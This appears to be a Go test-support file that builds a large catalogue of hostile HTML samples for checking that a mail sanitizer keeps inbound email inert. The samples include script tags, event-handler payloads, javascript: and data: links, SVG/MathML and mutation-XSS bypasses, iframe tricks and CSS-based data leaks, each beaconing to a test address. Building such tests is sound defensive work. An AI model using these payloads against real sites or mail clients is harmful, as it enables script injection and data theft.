package inboundtest

import (
	"fmt"
	"slices"
	"strings"
)

// Active is HTML that tries to run a script, to send a request or to leave its frame.
type Active struct {
	// Name is unique, in lower case with hyphens.
	Name string
	HTML string
}

// ActiveHTML returns HTML with which attackers make mail active in a browser. Each sample
// requests address followed by "?" and its name if it succeeds, some of them only in some
// browsers or after a click. Samples that run a script do so with the attribute or element of
// their name; the script also sets the title of the frame's parents and top window.
func ActiveHTML(address string) []Active {
	a := attack{address}
	return slices.Concat(a.scripts(), a.handlers(), a.addresses(), a.foreign(), a.mutations(), a.frames(), a.leaks(), a.styles(), a.leaving())
}

// attack makes samples that request an address.
type attack struct{ address string }

// to returns the address that the sample with this name requests.
func (a attack) to(name string) string { return a.address + "?" + name }

// js returns a script without quotation marks that requests the address, and writes to the
// windows around the frame.
func (a attack) js(name string) string {
	codes := make([]string, 0, len(a.to(name)))
	for _, b := range []byte(a.to(name)) {
		codes = append(codes, fmt.Sprint(b))
	}
	return "(new(Image)).src=String.fromCharCode(" + strings.Join(codes, ",") + ");try{parent.document.title=1}catch(e){};try{top.document.title=1}catch(e){};parent.postMessage(1,String.fromCharCode(42))"
}

// each returns a sample for each of the named texts. In them, JS is the script and URL the
// address, RELATIVE without its scheme.
func (a attack) each(prefix string, named ...string) []Active {
	var all []Active
	for i := 0; i+1 < len(named); i += 2 {
		name := prefix + "-" + named[i]
		all = append(all, Active{name, strings.NewReplacer("JS", a.js(name), "URL", a.to(name), "RELATIVE", strings.TrimPrefix(a.to(name), "http:")).Replace(named[i+1])})
	}
	return all
}

func (a attack) scripts() []Active {
	return a.each("script",
		"plain", `<script>JS</script>`,
		"source", `<script src="URL"></script>`,
		"upper-case", `<ScRiPt>JS</sCrIpT>`,
		"slash", `<script/x>JS</script>`,
		"spaces", "<script\n\t\f>JS</script\n>",
		"never-closed", `<script>JS`,
		"module", `<script type="module">JS</script>`,
		"module-source", `<script type="module" src="URL"></script>`,
		"split", `<scr<script>ipt>JS</scr</script>ipt>`,
		"nested", `<<script>script>JS</script>`,
		"after-comment", `<!--><script>JS</script>-->`,
		"after-bang", `<!--!><script>JS</script>-->`,
		"after-cdata", `<![CDATA[><script>JS</script>]]>`,
		"after-instruction", `<?x ><script>JS</script>?>`,
		"in-title", `<title></title><script>JS</script>`,
		"in-table", `<table><script>JS</script></table>`,
		"in-select", `<select><script>JS</script></select>`,
		"nul", "<scr\x00ipt>JS</script><script\x00>JS</script>",
		"utf-7", `<meta charset="utf-7">+ADw-script+AD4-JS+ADw-/script+AD4-`,
		"speculation", `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["URL"],"eagerness":"immediate"}]}</script>`,
		"import-map", `<script type="importmap">{"imports":{"x":"URL"}}</script><script type="module">import "x"</script>`,
	)
}

func (a attack) handlers() []Active {
	return a.each("handler",
		"image", `<img src="data:," onerror="JS">`,
		"image-unquoted", `<img src=data:, onerror=JS>`,
		"image-slashes", `<img/src="data:,"/onerror="JS"/>`,
		"image-broken-quote", `<img """><script>JS</script>">`,
		"image-tab", "<img src=data:, on\terror=x onerror\t=\tJS>",
		"body", `<body onload="JS">`,
		"body-twice", `<p>x</p><body onload="JS" onpageshow="JS">`,
		"html", `<html onmouseover="JS" onclick="JS"><p style="height:500px">x`,
		"focus", `<input autofocus onfocus="JS">`,
		"focus-any", `<p tabindex=0 autofocus onfocus="JS">x</p>`,
		"toggle", `<details open ontoggle="JS">x</details>`,
		"toggle-popover", `<button popovertarget=p id=b>x</button><p popover id=p onbeforetoggle="JS">x</p>`,
		"animation", `<style>@keyframes x{}</style><p style="animation:x .01s" onanimationstart="JS" onanimationend="JS">x</p>`,
		"transition", `<p style="transition:color .01s" ontransitionend="JS" onmouseover="JS">x</p>`,
		"marquee", `<marquee onstart="JS">x</marquee>`,
		"video", `<video src="data:," onerror="JS"></video><audio src="data:," onerror="JS"></audio>`,
		"source", `<video><source onerror="JS" src="data:,"></video>`,
		"object", `<object data="data:," onerror="JS" onload="JS"></object>`,
		"scroll", `<body onscroll="JS"><p style="height:5000px">x</p><p id=x>y</p><input autofocus>`,
		"resize", `<body onresize="JS" onhashchange="JS">`,
		"content-visibility", `<p style="content-visibility:auto" oncontentvisibilityautostatechange="JS">x</p>`,
		"custom-element", `<x-y onclick="JS" onfocus="JS" tabindex=0 autofocus>x</x-y>`,
		"entities", `<img src="data:," onerror="&#x28;new&#x28;Image&#x29;&#x29;.src='URL'">`,
		"click", `<p style="height:500px" onclick="JS" onpointerdown="JS">x</p>`,
	)
}

// addresses has links and other addresses with scripts. They are clicked.
func (a attack) addresses() []Active {
	link := func(name, address string) []string {
		return []string{name, `<a href="` + address + `" style="display:block;height:500px">x</a>`}
	}
	return a.each("address", slices.Concat(
		link("javascript", `javascript:JS`),
		link("javascript-top", `javascript:JS" target="_top`),
		link("upper-case", `JaVaScRiPt:JS`),
		link("spaces", " \x01java\nscr\tipt:JS"),
		link("entities", `&#106;avascript&colon;JS`),
		link("leading-controls", "\x01\x02\x1f javascript:JS"),
		link("full-width", `ｊavascript:JS`),
		link("data", `data:text/html,<script>JS</script>`),
		link("data-top", `data:text/html,<script>JS</script>" target="_top`),
		link("ping", `#" ping="URL`),
		link("remote", `URL`),
		link("new-window", `URL" target="_blank`),
		[]string{
			"area", `<img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width=300 height=300><map name=m><area shape=default href="javascript:JS"></map>`,
			"form", `<form action="javascript:JS"><button style="display:block;width:100%;height:500px">x</button></form>`,
			"form-action", `<form><button formaction="javascript:JS" style="display:block;width:100%;height:500px">x</button></form>`,
			"form-remote", `<form action="URL"><input name=q value=1><button style="display:block;width:100%;height:500px">x</button></form>`,
			"form-top", `<form action="URL" target="_top"><button style="display:block;width:100%;height:500px">x</button></form>`,
			"form-enter", `<form action="URL"><input autofocus name=q></form>`,
			"embed", `<embed src="javascript:JS">`,
			"object", `<object data="javascript:JS"></object>`,
			"base", `<base href="URL&"><img src="x.png"><a href="y" style="display:block;height:500px">x</a>`,
			"svg-use", `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='URL'/></svg>#x"/></svg>`,
		})...)
}

func (a attack) foreign() []Active {
	return a.each("foreign",
		"svg-load", `<svg onload="JS">`,
		"svg-script", `<svg><script>JS</script></svg>`,
		"svg-script-entities", `<svg><script>&#40;new&#40;Image&#41;&#41;.src='URL'</script></svg>`,
		"svg-script-href", `<svg><script href="URL"></script></svg>`,
		"svg-animate", `<svg><animate onbegin="JS" attributeName=x dur=1s></svg>`,
		"svg-set", `<svg><a><rect width=900 height=500 /><set attributeName=href to="javascript:JS" /></a></svg>`,
		"svg-foreign-object", `<svg><foreignObject><body onload="JS"><img src="data:," onerror="JS"></foreignObject></svg>`,
		"svg-image", `<svg><image href="URL" /></svg>`,
		"svg-style", `<svg><style>@import "URL";</style></svg>`,
		"svg-filter", `<svg><filter id=x><feImage href="URL" /></filter><rect width=90 height=90 filter="url(#x)" /></svg>`,
		"math-link", `<math><mtext><a href="javascript:JS" style="display:block;height:500px">x</a></mtext></math>`,
		"math-href", `<math href="javascript:JS">x</math>`,
		"math-glyph", `<math><mglyph><img src="data:," onerror="JS"></mglyph></math>`,
		"math-annotation", `<math><annotation-xml encoding="text/html"><img src="data:," onerror="JS"></annotation-xml></math>`,
	)
}

// mutations has markup that becomes other markup when a program parses it, writes it and
// parses it again.
func (a attack) mutations() []Active {
	return a.each("mutation",
		"noscript", `<noscript><p title="</noscript><img src=data:, onerror=JS>"></noscript>`,
		"style", `<p title="</style><img src=data:, onerror=JS>"><style></p></style>`,
		"style-in-svg", `<svg></p><style><a title="</style><img src=data:, onerror=JS>">`,
		"title-in-svg", `<svg><title><p title="</title><img src=data:, onerror=JS>">`,
		"style-in-math", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:, onerror=JS&gt;">`,
		"form-in-math", `<form><math><mtext></form><form><mglyph><style></math><img src=data:, onerror=JS>`,
		"comment-in-math", `<math><!--></math><img src=data:, onerror=JS>-->`,
		"textarea", `<textarea><p title="</textarea><img src=data:, onerror=JS>"></textarea>`,
		"xmp", `<xmp><p title="</xmp><img src=data:, onerror=JS>"></xmp>`,
		"noembed", `<noembed><p title="</noembed><img src=data:, onerror=JS>"></noembed>`,
		"noframes", `<noframes><p title="</noframes><img src=data:, onerror=JS>"></noframes>`,
		"iframe", `<iframe><p title="</iframe><img src=data:, onerror=JS>"></iframe>`,
		"plaintext", `<p title="<plaintext>"><img src="data:," onerror="JS">`,
		"template", `<template><script>JS</script></template><template shadowrootmode=open><img src="data:," onerror="JS"></template>`,
		"shadow", `<div><template shadowrootmode="open"><script>JS</script><style>@import "URL"</style></template></div>`,
		"table", `<table><td><svg><desc><td></desc><style><a title="</style><img src=data:, onerror=JS>">`,
		"select", `<select><option><style></option></select><img src=data:, onerror=JS></style>`,
		"attribute", "<p id=\"`><img src=data:, onerror=JS>\">",
		"backtick", "<img alt=\"``onerror=JS\" src=data:,>",
		"cdata-in-svg", `<svg><![CDATA[><img src=data:, onerror=JS>]]></svg>`,
		"desc", `<svg><desc><![CDATA[</desc><script>JS</script>]]></svg>`,
		"nested-forms", `<form><div></form><form><img src=data:, onerror=JS>`,
		"deep", strings.Repeat("<b>", 600)+`<img src=data:, onerror=JS>`,
		"deep-formatting", strings.Repeat(`<font color=red><p>`, 300)+`<img src=data:, onerror=JS>`,
		"clobbering", `<form id=body><input name=parentNode><input name=attributes></form><img name=getElementById><img src=data:, onerror=JS>`,
	)
}

func (a attack) frames() []Active {
	return a.each("frame",
		"source", `<iframe src="URL"></iframe>`,
		"srcdoc", `<iframe srcdoc="<script>JS</script><img src='URL'>"></iframe>`,
		"srcdoc-entities", `<iframe srcdoc="&lt;img src=data:, onerror=&quot;JS&quot;&gt;"></iframe>`,
		"javascript", `<iframe src="javascript:JS"></iframe>`,
		"data", `<iframe src="data:text/html,<script>JS</script>"></iframe>`,
		"sandbox", `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>JS</script>"></iframe>`,
		"object", `<object data="URL"></object>`,
		"object-html", `<object type="text/html" data="data:text/html,<script>JS</script>"></object>`,
		"embed", `<embed src="URL" type="text/html">`,
		"frameset", `<frameset onload="JS"><frame src="URL"></frameset>`,
		"fenced", `<fencedframe></fencedframe><portal src="URL"></portal>`,
	)
}

// leaks has elements that request an address without a script.
func (a attack) leaks() []Active {
	return a.each("leak",
		"image", `<img src="URL">`,
		"image-lazy", `<img loading=eager src="URL">`,
		"srcset", `<img srcset="URL 1x, URL 2x">`,
		"picture", `<picture><source srcset="URL"><img></picture>`,
		"input-image", `<input type=image src="URL">`,
		"background", `<body background="URL"><table background="URL"><tr><td background="URL">x</table>`,
		"video", `<video src="URL" poster="URL" autoplay></video><audio src="URL" autoplay></audio>`,
		"track", `<video autoplay><source src="URL"><track default src="URL"></video>`,
		"link-style", `<link rel=stylesheet href="URL">`,
		"link-icon", `<link rel=icon href="URL">`,
		"link-preload", `<link rel=preload as=image href="URL"><link rel=prefetch href="URL"><link rel=modulepreload href="URL">`,
		"link-manifest", `<link rel=manifest href="URL">`,
		"protocol-relative", `<img src="RELATIVE">`,
		"refresh-image", `<meta http-equiv=refresh content="0;url=URL">`,
		"refresh-quoted", `<meta http-equiv="Refresh" content="0; URL='URL'">`,
		"policy", `<meta http-equiv="Content-Security-Policy" content="img-src *; script-src 'unsafe-inline'"><script>JS</script><img src="URL">`,
		"report", `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri URL"><img src="http://127.0.0.1/x">`,
		"image-set", `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='URL'/></svg>">`,
	)
}

func (a attack) styles() []Active {
	return a.each("style",
		"url", `<p style="background:url(URL)">x</p>`,
		"url-quoted", `<p style="background-image:url('URL')">x</p>`,
		"url-escaped", `<p style="background:u\72l(URL)">x</p>`,
		"image-set", `<p style="background:image-set('URL' 1x)">x</p>`,
		"webkit-image-set", `<p style="background:-webkit-image-set(url(URL) 1x)">x</p>`,
		"cross-fade", `<p style="background:-webkit-cross-fade(url(URL),url(URL),50%)">x</p>`,
		"list", `<ul style="list-style:url(URL)"><li>x</ul>`,
		"cursor", `<p style="cursor:url(URL),auto">x</p>`,
		"content", `<p style="content:url(URL)">x</p>`,
		"border", `<p style="border:9px solid;border-image:url(URL) 9">x</p>`,
		"mask", `<p style="-webkit-mask:url(URL);mask:url(URL#x);filter:url(URL#x);clip-path:url(URL#x)">x</p>`,
		"shape", `<p style="float:left;shape-outside:url(URL)">x</p>`,
		"variable", `<p style="--x:url(URL);background:var(--x)">x</p>`,
		"break-out", `<p style="color:red&quot;><img src='URL'>;background:url(URL)">x</p>`,
		"comment", `<p style="background/**/:/**/url(URL)">x</p>`,
		"unfinished", `<p style="background:url(URL">x</p>`,
		"import", `<style>@import "URL";</style>`,
		"import-url", `<style>@import url(URL);</style>`,
		"import-late", `<style>p{}</style><style>@import 'URL' screen;</style>`,
		"font", `<style>@font-face{font-family:x;src:url(URL)}p{font-family:x}</style><p>x</p>`,
		"selector", `<style>input[value^="s"]{background:url(URL)}</style><input value="secret">`,
		"has", `<style>html:has(p){background:url(URL)}</style><p>x</p>`,
		"pseudo", `<style>p::before{content:url(URL)}p::first-line{background:url(URL)}</style><p>x</p>`,
		"hover", `<style>html:hover,body:hover{background:url(URL)}</style><p style="height:500px">x</p>`,
		"breaks-style", `<style><!--</style><img src="URL"><!--></style>`,
		"inlined", `<style>.x{background-image:url("URL")}</style><p class="x">x</p>`,
		"namespace", `<style>@namespace url(URL);@charset "x";p{background:url(URL)}</style><p>x</p>`,
		"page", `<link rel=stylesheet href="data:text/css,@import 'URL'">`,
	)
}

// leaving has HTML that leads the window around the frame to another page. It is clicked.
func (a attack) leaving() []Active {
	return a.each("leaving",
		"link-top", `<a href="URL" target="_top" style="display:block;height:500px">x</a>`,
		"link-parent", `<a href="URL" target="_parent" style="display:block;height:500px">x</a>`,
		"base-target", `<base target="_top"><a href="URL" style="display:block;height:500px">x</a>`,
		"refresh-later", `<meta http-equiv=refresh content="0.1;URL">`,
		"script-top", `<script>top.location="URL"</script>`,
		"script-parent", `<script>parent.location.replace("URL")</script>`,
		"script-open", `<script>open("URL")</script>`,
		"form-parent", `<form action="URL" target="_parent" method=post><button style="display:block;width:100%;height:500px">x</button></form>`,
	)
}
